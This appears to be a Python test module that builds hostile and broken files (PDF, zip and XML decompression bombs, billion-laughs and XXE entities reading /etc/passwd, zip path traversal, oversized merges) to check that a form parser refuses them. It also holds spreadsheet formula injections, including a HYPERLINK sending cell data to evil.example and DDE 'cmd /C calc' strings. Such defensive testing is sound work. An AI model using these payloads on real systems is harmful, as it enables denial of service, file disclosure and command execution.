"""Hostile and broken files, written at test time (nothing binary is committed).

Each `Case` writes one file into a folder and says how reading it must end: `reads` (the forms
come out, as from a clean file) or an error whose one-line message matches `error`. The bombs are
small on disk and huge when unpacked; every generator here is cheap (well under a second) because
the large parts are repeated blocks, not data built in memory.
"""
from __future__ import annotations

import os
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import formspec

MOF = formspec.load_specs("mof")[0]
EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "community_health_2023.txt"


@dataclass(frozen=True)
class Case:
    """`error`: a regex the one-line error must match; None: the file reads, and `like` names the
    clean file (a GOOD case) whose forms it must give, after `edit` says what this case changed
    on purpose (None: forms identical)."""

    name: str
    make: Callable[[Path], Path]       # folder → the file written
    error: str | None = None
    like: str | None = None
    edit: Callable[[list[dict]], None] | None = None

    @property
    def reads(self) -> bool:
        return self.error is None


def essence(forms: list[dict]) -> list[dict]:
    """What a correct read must give: the forms' facts without file names and line numbers."""
    keep = ("level1", "level2", "indicator", "target", "actual", "weight", "score", "explanation")
    return [{"project": f["project"], "year": f["year"], "department": f["department"],
             "total": f["total"], "indicators": [{k: i[k] for k in keep} for i in f["indicators"]]}
            for f in forms]


def _indicator(forms: list[dict], name: str) -> dict:
    return next(i for i in forms[0]["indicators"] if i["indicator"] == name)


def _separators_kept(forms: list[dict]) -> None:
    row = _indicator(forms, "家庭医生签约人数")
    row["explanation"] = row["explanation"].replace(
        "已与区人民医院签订协议", "已与区人民医院" + SEPARATORS + "签订协议")
    row = _indicator(forms, "慢病患者规范管理率")
    row["explanation"] = row["explanation"].replace("进一步加强慢病", "进一步加强\u2028慢病")


def _formulas_as_written(forms: list[dict]) -> None:
    _indicator(forms, "服务站开诊数")["indicator"] = HYPERLINK
    _indicator(forms, "设备采购完成及时性")["explanation"] = DDE
    _indicator(forms, "门诊量")["indicator"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    row = _indicator(forms, "健康档案电子化率")
    row["target"] = row["actual"] = "=100%"
    row = _indicator(forms, "居民健康知识知晓率")
    row["target"], row["actual"] = "+80%", "-3"


# ---- building blocks ---------------------------------------------------------------------------

def deflate_repeat(byte: int, total: int, unit: int = 1 << 22) -> bytes:
    """A valid zlib stream of `total` copies of `byte`, built without compressing them all: one
    fully flushed block (independent of what came before) repeated, then the checksum computed in
    closed form."""
    c = zlib.compressobj(9)
    head = c.compress(bytes([byte]) * unit) + c.flush(zlib.Z_FULL_FLUSH)
    final = c.flush()[:-4]
    n = total // unit
    size = n * unit
    a = (1 + size * byte) % 65521
    b = (size + byte * (size * (size + 1) // 2)) % 65521
    return head[:2] + head[2:] * n + final + struct.pack(">I", (b << 16) | a)


def pdf_bytes(objects: dict[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF with these numbered objects and a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, objects[num])
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for i in range(1, size):
        out += b"%010d 00000 n \n" % offsets[i] if i in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, xref)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(contents: bytes = b"4 0 R", page_extra: bytes = b"") -> dict[int, bytes]:
    """Catalog, page tree and one page whose content is object 4; font is object 5."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s "
           b"/Resources << /Font << /F1 5 0 R >> >> %s>>" % (contents, page_extra),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def write_pdf(path: Path, objects: dict[int, bytes], **kw) -> Path:
    path.write_bytes(pdf_bytes(objects, **kw))
    return path


_CT = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
       b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
       b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
       b'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
       b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
       b'"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
       b'spreadsheetml.worksheet+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
         b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
         b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         b'Target="xl/workbook.xml"/></Relationships>')
_WB = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
       b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
       b'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/></Relationships>')
SHEET_OPEN = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.'
              b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
              b'officeDocument/2006/relationships">')


def inline_cell(ref: str, text: str) -> bytes:
    from xml.sax.saxutils import escape

    return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref.encode(), escape(text).encode())


def form_rows_xml(first_row: int = 1) -> bytes:
    """The example form's cells as sheet rows (text cells), starting at `first_row`."""
    from openpyxl.utils import get_column_letter

    out = []
    for r, line in enumerate(EXAMPLE.read_text(encoding="utf-8").splitlines(), first_row):
        cells = b"".join(inline_cell(f"{get_column_letter(c)}{r}", t)
                         for c, t in enumerate(line.split("\t"), 1) if t)
        out.append(b'<row r="%d">%s</row>' % (r, cells))
    return b"".join(out)


def write_xlsx(path: Path, sheet_parts, extra: dict[str, bytes] | None = None,
               before_sheet: bytes = b"") -> Path:
    """A minimal workbook of one sheet whose XML is `sheet_parts` (bytes, or an iterable of byte
    chunks streamed into the zip), plus any `extra` members."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(before_sheet)
            for chunk in ([sheet_parts] if isinstance(sheet_parts, bytes) else sheet_parts):
                f.write(chunk)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return path


def sheet(body: bytes, after: bytes = b"") -> bytes:
    return SHEET_OPEN + b"<sheetData>" + body + b"</sheetData>" + after + b"</worksheet>"


def rewrite_zip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None],
                add: dict[str, bytes] | None = None) -> Path:
    """Copy a zip, passing each member through `change` (None drops it), adding `add`."""
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
        for info in a.infolist():
            data = change(info.filename, a.read(info))
            if data is not None:
                b.writestr(info.filename, data)
        for name, data in (add or {}).items():
            b.writestr(name, data)
    return dst


def good(fmt: str) -> Callable[[Path], Path]:
    """A clean form in `fmt`, to prove the batch keeps its results."""
    def make(folder: Path) -> Path:
        return formspec.render(MOF, fmt, folder, f"good_{fmt}")
    return make


# ---- the cases ---------------------------------------------------------------------------------

def pdf_self_reference(folder: Path) -> Path:
    """Object 4 is a reference to itself: resolving it never ends (hung check, score, serve)."""
    objs = one_page()
    objs[4] = b"4 0 R"
    return write_pdf(folder / "self_reference.pdf", objs)


def pdf_reference_cycle(folder: Path) -> Path:
    """The stream's /Length points at an object pointing back: a two-step loop."""
    objs = one_page()
    objs[4] = b"<< /Length 6 0 R >>\nstream\nBT /F1 12 Tf 72 700 Td (x) Tj ET\nendstream"
    objs[6] = b"7 0 R"
    objs[7] = b"6 0 R"
    return write_pdf(folder / "reference_cycle.pdf", objs)


def pdf_flate_bomb(folder: Path) -> Path:
    """A 1 MiB content stream that inflates to 1 GiB of spaces."""
    objs = one_page()
    objs[4] = stream(deflate_repeat(32, 1 << 30), b"/Filter /FlateDecode ")
    return write_pdf(folder / "flate_bomb.pdf", objs)


def pdf_double_flate_bomb(folder: Path) -> Path:
    """Deflate of a deflate: a few KiB on disk, 1 GiB after the second filter."""
    objs = one_page()
    objs[4] = stream(zlib.compress(deflate_repeat(32, 1 << 30), 9),
                     b"/Filter [/FlateDecode /FlateDecode] ")
    return write_pdf(folder / "double_flate_bomb.pdf", objs)


def pdf_many_rules(folder: Path) -> Path:
    """A page ruled with 3,000 × 3,000 lines: table finding would intersect every pair."""
    ops = [b"0.1 w"]
    ops += [b"%d 10 m %d 780 l S" % (10 + i // 5, 10 + i // 5) for i in range(3000)]
    ops += [b"10 %d m 600 %d l S" % (10 + i // 4, 10 + i // 4) for i in range(3000)]
    objs = one_page()
    objs[4] = stream(b"\n".join(ops))
    return write_pdf(folder / "many_rules.pdf", objs)


def pdf_deep_nesting(folder: Path) -> Path:
    """An array nested 50,000 deep in the page dictionary."""
    objs = one_page(page_extra=b"/Deep " + b"[" * 50000 + b"]" * 50000 + b" ")
    objs[4] = stream(b"BT /F1 12 Tf 72 700 Td (x) Tj ET")
    return write_pdf(folder / "deep_nesting.pdf", objs)


def pdf_page_tree_loop(folder: Path) -> Path:
    """The page tree's kids include the tree itself."""
    objs = one_page()
    objs[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    objs[4] = stream(b"BT /F1 12 Tf 72 700 Td (x) Tj ET")
    return write_pdf(folder / "page_tree_loop.pdf", objs)


def pdf_xref_loop(folder: Path) -> Path:
    """The trailer's /Prev points back at its own cross-reference table."""
    objs = one_page()
    objs[4] = stream(b"BT /F1 12 Tf 72 700 Td (x) Tj ET")
    data = pdf_bytes(objs)
    xref = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    (folder / "xref_loop.pdf").write_bytes(pdf_bytes(objs, trailer=b"/Prev %d " % xref))
    return folder / "xref_loop.pdf"


def pdf_garbage(folder: Path) -> Path:
    path = folder / "garbage.pdf"
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40)
    return path


def pdf_encrypted(folder: Path) -> Path:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    path = folder / "encrypted.pdf"
    c = canvas.Canvas(str(path), encrypt=pdfencrypt.StandardEncryption("user-pw", "owner-pw", strength=128))
    c.drawString(50, 800, "secret")
    c.save()
    return path


def xlsx_merge_bomb(folder: Path) -> Path:
    """One merged range from B3 to the last cell of the sheet (17 billion cells)."""
    return write_xlsx(folder / "merge_bomb.xlsx",
                      sheet(form_rows_xml(), b'<mergeCells count="1"><mergeCell ref="B3:XFD1048576"/>'
                                             b'</mergeCells>'))


def xlsx_many_merges(folder: Path) -> Path:
    """200,000 small merged ranges: each alone harmless, together a million covered cells."""
    merges = b"".join(b'<mergeCell ref="A%d:E%d"/>' % (r, r) for r in range(100, 200100))
    return write_xlsx(folder / "many_merges.xlsx",
                      sheet(form_rows_xml(), b'<mergeCells count="200000">' + merges + b"</mergeCells>"))


def xlsx_hyperlink_bomb(folder: Path) -> Path:
    """A hyperlink over the whole sheet: openpyxl would create every cell it covers."""
    return write_xlsx(folder / "hyperlink_bomb.xlsx",
                      sheet(form_rows_xml(), b'<hyperlinks><hyperlink ref="A1:XFD1048576" '
                                             b'location="Sheet1!A1"/></hyperlinks>'))


def xlsx_five_million_cells(folder: Path) -> Path:
    """5,000,000 small numeric cells (1,000 rows × 5,000 columns) after a real form."""
    row = b"<c><v>1</v></c>" * 5000

    def parts():
        yield SHEET_OPEN + b"<sheetData>" + form_rows_xml()
        for r in range(100, 1100):
            yield b'<row r="%d">%s</row>' % (r, row)
        yield b"</sheetData></worksheet>"
    return write_xlsx(folder / "five_million_cells.xlsx", parts())


def xlsx_many_rows(folder: Path) -> Path:
    """200,000 rows of one cell each after a real form."""
    def parts():
        yield SHEET_OPEN + b"<sheetData>" + form_rows_xml()
        for r in range(100, 200100):
            yield b'<row r="%d"><c><v>1</v></c></row>' % r
        yield b"</sheetData></worksheet>"
    return write_xlsx(folder / "many_rows.xlsx", parts())


def xlsx_far_corner(folder: Path) -> Path:
    """A real form plus one stray value in the last cell of the sheet."""
    return write_xlsx(folder / "far_corner.xlsx",
                      sheet(form_rows_xml() + b'<row r="1048576">' + inline_cell("XFD1048576", "x") + b"</row>"))


def xlsx_billion_laughs(folder: Path) -> Path:
    """Nested entities in the sheet XML (10^9 "lol"s if expanded)."""
    dtd = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    body = SHEET_OPEN.replace(b"?>", b"?>" + dtd, 1) + b"<sheetData>" + form_rows_xml() + \
        b'<row r="90">' + b'<c r="A90" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    return write_xlsx(folder / "billion_laughs.xlsx", body)


def xlsx_external_entity(folder: Path) -> Path:
    """An external entity naming a local file: its content must not reach the output."""
    dtd = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = SHEET_OPEN.replace(b"?>", b"?>" + dtd, 1) + b"<sheetData>" + form_rows_xml() + \
        b'<row r="90"><c r="A90" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    return write_xlsx(folder / "external_entity.xlsx", body)


def _xlsx_form(folder: Path, name: str) -> Path:
    return formspec.to_xlsx([MOF], folder / name)


def xlsx_named_xls(folder: Path) -> Path:
    return _xlsx_form(folder, "xlsx_named.xls")


def xlsx_named_dat(folder: Path) -> Path:
    return _xlsx_form(folder, "xlsx_named.dat")


def xlsx_no_suffix(folder: Path) -> Path:
    return _xlsx_form(folder, "xlsx_without_suffix")


def xls_merge_bomb(folder: Path) -> Path:
    """A 15 KiB .xls whose merged range runs from B41 to the sheet's last cell (IV65536): xlrd
    pads every row to it — 16 million cells — unless rows are read ragged."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("自评表")
    for r, line in enumerate(EXAMPLE.read_text(encoding="utf-8").splitlines()):
        for c, text in enumerate(line.split("\t")):
            if text:
                ws.write(r, c, text)
    ws.merge(40, 41, 1, 2)
    path = folder / "merge_bomb.xls"
    wb.save(str(path))
    record = b"\xe5\x00\x0a\x00\x01\x00"          # MERGEDCELLS, one range
    small = record + struct.pack("<4H", 40, 41, 1, 2)
    data = path.read_bytes()
    assert data.count(small) == 1, "xlwt wrote the merge differently: the case would test nothing"
    path.write_bytes(data.replace(small, record + struct.pack("<4H", 40, 65535, 1, 255)))
    return path


def zip_bomb(folder: Path) -> Path:
    """A workbook carrying a 64 MiB member that deflates 1,000 to 1."""
    path = _xlsx_form(folder, "zip_bomb.xlsx")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with z.open("xl/media/filler.bin", "w", force_zip64=True) as f:
            chunk = b"\0" * (1 << 22)
            for _ in range(16):
                f.write(chunk)
    return path


def zip_traversal(folder: Path) -> Path:
    """Members named ../../ and absolute: nothing may be written outside (nothing is unpacked)."""
    src = _xlsx_form(folder, "tmp_traversal.xlsx")
    dst = rewrite_zip(src, folder / "zip_traversal.xlsx", lambda n, d: d,
                      {"../../../../tmp/pianchai_traversal_probe": b"x", "/tmp/pianchai_abs_probe": b"x"})
    src.unlink()
    return dst


def zip_many_members(folder: Path) -> Path:
    """20,000 empty members: zipfile would build an object for each before anything is read."""
    path = _xlsx_form(folder, "many_members.xlsx")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as z:
        for i in range(20_000):
            z.writestr(f"xl/media/{i}.bin", b"")
    return path


def zip_truncated(folder: Path) -> Path:
    src = _xlsx_form(folder, "tmp_truncated.xlsx")
    data = src.read_bytes()
    src.unlink()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def _docx_with_body(folder: Path, name: str, body: bytes, prolog: bytes = b"") -> Path:
    src = formspec.to_docx([MOF], folder / f"tmp_{name}")

    def change(member: str, data: bytes) -> bytes:
        if member != "word/document.xml":
            return data
        head, rest = data.split(b"<w:body>", 1)
        if prolog:
            head = head.replace(b"?>", b"?>" + prolog, 1)
        return head + b"<w:body>" + body + rest
    dst = rewrite_zip(src, folder / name, change)
    src.unlink()
    return dst


def docx_span_bomb(folder: Path) -> Path:
    """A table of 100 rows × 1,000 cells, each spanning 1,000 grid columns (10^8 slots)."""
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="1000"/></w:tcPr><w:p/></w:tc>'
    row = b'<w:tr><w:trPr><w:gridBefore w:val="1000"/></w:trPr>' + cell * 1000 + b"</w:tr>"
    return _docx_with_body(folder, "span_bomb.docx", b"<w:tbl>" + row * 100 + b"</w:tbl>")


def docx_billion_laughs(folder: Path) -> Path:
    dtd = b'<!DOCTYPE w [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    return _docx_with_body(folder, "billion_laughs.docx", b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", dtd)


def docx_external_entity(folder: Path) -> Path:
    dtd = b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return _docx_with_body(folder, "external_entity.docx", b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", dtd)


def docx_deep_nesting(folder: Path) -> Path:
    """Tables nested 5,000 deep in one cell."""
    body = b"<w:tbl><w:tr><w:tc>" * 5000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 5000
    return _docx_with_body(folder, "deep_nesting.docx", body)


def html_span_bomb(folder: Path) -> Path:
    """240 bytes: cells spanning 1,000 rows and 1,000 columns."""
    cell = '<td rowspan="1000" colspan="1000">x</td>'
    path = folder / "span_bomb.html"
    path.write_text("<html><body><table>" + ("<tr>" + cell * 4) * 1 + "</table></body></html>",
                    encoding="utf-8")
    return path


def html_many_span_tables(folder: Path) -> Path:
    """Fifty tables of one 1,000 × 1,000 cell each: 50 million slots in all."""
    table = '<table><tr><td rowspan="1000" colspan="1000">x</td></tr></table>'
    path = folder / "many_span_tables.html"
    path.write_text("<html><body>" + table * 50 + "</body></html>", encoding="utf-8")
    return path


def html_deep_nesting(folder: Path) -> Path:
    """Tables nested 100,000 deep."""
    path = folder / "deep_nesting.html"
    path.write_text("<html><body>" + "<table><tr><td>" * 100_000 + "x" + "</td></tr></table>" * 100_000
                    + "</body></html>", encoding="utf-8")
    return path


def text_many_rows(folder: Path) -> Path:
    """A real form followed by 200,000 rows of cells."""
    path = folder / "many_rows.txt"
    with open(path, "w", encoding="utf-8") as f:
        f.write(EXAMPLE.read_text(encoding="utf-8"))
        f.write("\t\t\t项目\t1\t2\t3\t4\t5\n" * 200_000)
    return path


def text_one_huge_line(folder: Path) -> Path:
    """A real form followed by one line of 15 million tabs."""
    path = folder / "huge_line.txt"
    with open(path, "w", encoding="utf-8") as f:
        f.write(EXAMPLE.read_text(encoding="utf-8"))
        f.write("\t" * 15_000_000 + "\n")
    return path


def text_utf16_bom(folder: Path) -> Path:
    """Excel's "Unicode text" export: UTF-16 little-endian with a BOM."""
    path = folder / "utf16_bom.txt"
    path.write_bytes(EXAMPLE.read_text(encoding="utf-8").replace("\n", "\r\n").encode("utf-16"))
    return path


def text_utf16_no_bom(folder: Path) -> Path:
    path = folder / "utf16_no_bom.txt"
    path.write_bytes(EXAMPLE.read_text(encoding="utf-8").encode("utf-16-le"))
    return path


def text_mixed_encodings(folder: Path) -> Path:
    """Lines pasted from two sources: most UTF-8, the indicator rows GB18030."""
    lines = EXAMPLE.read_text(encoding="utf-8").splitlines(keepends=True)
    path = folder / "mixed_encodings.txt"
    path.write_bytes(b"".join(line.encode("gb18030" if k % 3 == 2 else "utf-8") for k, line in enumerate(lines)))
    return path


SEPARATORS = "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"


def text_line_separators(folder: Path) -> Path:
    """Explanations holding U+2028, U+2029, NEL, VT, FF and the file/group/record separators,
    as pasted from Word and web pages: all of them are line breaks to str.splitlines()."""
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("已与区人民医院签订协议", "已与区人民医院" + SEPARATORS + "签订协议", 1)
    text = text.replace("进一步加强慢病随访管理", "进一步加强\u2028慢病随访管理")
    path = folder / "line_separators.txt"
    path.write_text(text, encoding="utf-8")
    return path


def text_huge_number(folder: Path) -> Path:
    """A 400-digit score: no float holds it."""
    path = folder / "huge_number.txt"
    path.write_text(EXAMPLE.read_text(encoding="utf-8").replace("\t84.8", "\t" + "9" * 400)
                    .replace("\t10\t9\t", "\t10\t" + "9" * 400 + "\t", 1), encoding="utf-8")
    return path


def text_nul_bytes(folder: Path) -> Path:
    path = folder / "nul_bytes.txt"
    path.write_bytes(EXAMPLE.read_bytes().replace("进一步".encode(), b"\0\0\0" * 20))
    return path


def text_formulas(folder: Path) -> Path:
    """Cells that a spreadsheet would run: a link that sends a cell away, a DDE call, and genuine
    "=100%" targets that must stay as written."""
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("服务站开诊数", HYPERLINK)
    text = text.replace("设备采购进度滞后。", DDE)
    text = text.replace("门诊量", "@SUM(1+1)*cmd|' /C calc'!A0")
    text = text.replace("≥95%\t96.2%", "=100%\t=100%")
    text = text.replace("≥80%\t81.4%", "+80%\t-3")
    path = folder / "formulas.txt"
    path.write_text(text, encoding="utf-8")
    return path


def binary_garbage(folder: Path) -> Path:
    path = folder / "garbage.xlsx"
    path.write_bytes(bytes((i * 7919) % 256 for i in range(50_000)))
    return path


def ole2_garbage(folder: Path) -> Path:
    path = folder / "garbage.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes((i * 31) % 256 for i in range(20_000)))
    return path


def empty_file(folder: Path) -> Path:
    path = folder / "empty.txt"
    path.write_bytes(b"")
    return path


def fifo(folder: Path) -> Path:
    """A named pipe with a form's name: opening it would wait for a writer forever."""
    path = folder / "pipe.txt"
    os.mkfifo(path)
    return path


def non_utf8_name(folder: Path) -> Path:
    """A file name that is not valid UTF-8 (copied from a GBK system)."""
    name = os.fsdecode(b"\xd7\xd4\xc6\xc0\xb1\xed.txt")     # 自评表 in GBK
    path = folder / name
    path.write_bytes(EXAMPLE.read_bytes())
    return path


CASES = [
    Case("pdf_self_reference", pdf_self_reference, r"no 自评表"),
    Case("pdf_reference_cycle", pdf_reference_cycle, r"no 自评表"),
    Case("pdf_flate_bomb", pdf_flate_bomb, r"refused: a stream unpacks to more than"),
    Case("pdf_double_flate_bomb", pdf_double_flate_bomb, r"refused: a stream unpacks to more than"),
    Case("pdf_many_rules", pdf_many_rules, r"refused: 6,000 ruling lines on one page"),
    Case("pdf_deep_nesting", pdf_deep_nesting, r"no 自评表|not a readable PDF"),
    Case("pdf_page_tree_loop", pdf_page_tree_loop, r"no 自评表"),
    Case("pdf_xref_loop", pdf_xref_loop, r"no 自评表|not a readable PDF"),
    Case("pdf_garbage", pdf_garbage, r"not a readable PDF"),
    Case("pdf_encrypted", pdf_encrypted, r"encrypted PDF"),
    Case("xlsx_merge_bomb", xlsx_merge_bomb, r"refused: merged range B3:XFD1048576 covers"),
    Case("xlsx_many_merges", xlsx_many_merges, r"refused: merged ranges cover more than"),
    Case("xlsx_hyperlink_bomb", xlsx_hyperlink_bomb, r"refused: hyperlink range A1:XFD1048576 covers"),
    Case("xlsx_five_million_cells", xlsx_five_million_cells, r"refused: more than [\d,]+ cells"),
    Case("xlsx_many_rows", xlsx_many_rows, r"refused: more than [\d,]+ rows"),
    Case("xlsx_far_corner", xlsx_far_corner, r"refused: 1048576 rows × 16384 columns"),
    Case("xlsx_billion_laughs", xlsx_billion_laughs, r"refused: the sheet declares a DOCTYPE"),
    Case("xlsx_external_entity", xlsx_external_entity, r"refused: the sheet declares a DOCTYPE"),
    Case("xlsx_named_xls", xlsx_named_xls, like="good_xlsx"),
    Case("xlsx_named_dat", xlsx_named_dat, like="good_xlsx"),
    Case("xlsx_no_suffix", xlsx_no_suffix, like="good_xlsx"),
    Case("xls_merge_bomb", xls_merge_bomb, like="good_example"),
    Case("zip_bomb", zip_bomb, r"refused: member xl/media/filler.bin would unpack"),
    Case("zip_traversal", zip_traversal, like="good_xlsx"),
    Case("zip_many_members", zip_many_members, r"refused: the zip archive lists 20,0\d\d members"),
    Case("zip_truncated", zip_truncated, r"truncated or corrupt"),
    Case("docx_span_bomb", docx_span_bomb, r"refused: more than [\d,]+ cells"),
    Case("docx_billion_laughs", docx_billion_laughs, r"not a readable docx document .*amplification"),
    Case("docx_external_entity", docx_external_entity, like="good_docx"),
    Case("docx_deep_nesting", docx_deep_nesting, r"not a readable docx document .*depth"),
    Case("html_span_bomb", html_span_bomb, r"refused: more than [\d,]+ cells"),
    Case("html_many_span_tables", html_many_span_tables, r"refused: more than [\d,]+ cells"),
    Case("html_deep_nesting", html_deep_nesting, r"refused: tables nested more than \d+ deep"),
    Case("text_many_rows", text_many_rows, r"refused: 200,0\d\d lines"),
    Case("text_one_huge_line", text_one_huge_line, r"refused: .* 15,000,\d+ tabs"),
    Case("text_utf16_bom", text_utf16_bom, like="good_example"),
    Case("text_utf16_no_bom", text_utf16_no_bom, like="good_example"),
    Case("text_mixed_encodings", text_mixed_encodings, like="good_example"),
    Case("text_line_separators", text_line_separators, like="good_example", edit=_separators_kept),
    Case("text_huge_number", text_huge_number),       # reads; no infinity anywhere (strict JSON)
    Case("text_nul_bytes", text_nul_bytes, r"binary content"),
    Case("text_formulas", text_formulas, like="good_example", edit=_formulas_as_written),
    Case("binary_garbage", binary_garbage, r"binary content with a \.xlsx name"),
    Case("ole2_garbage", ole2_garbage, r"not a readable xls workbook"),
    Case("empty_file", empty_file, r"empty"),
    Case("fifo", fifo, r"not a regular file"),
    Case("non_utf8_name", non_utf8_name, like="good_example"),
]

def good_example(folder: Path) -> Path:
    path = folder / "good_example.txt"
    path.write_bytes(EXAMPLE.read_bytes())
    return path


GOOD = [Case(f"good_{fmt}", good(fmt)) for fmt in ("text", "xlsx", "xls", "docx", "html", "pdf")]
GOOD.append(Case("good_example", good_example))
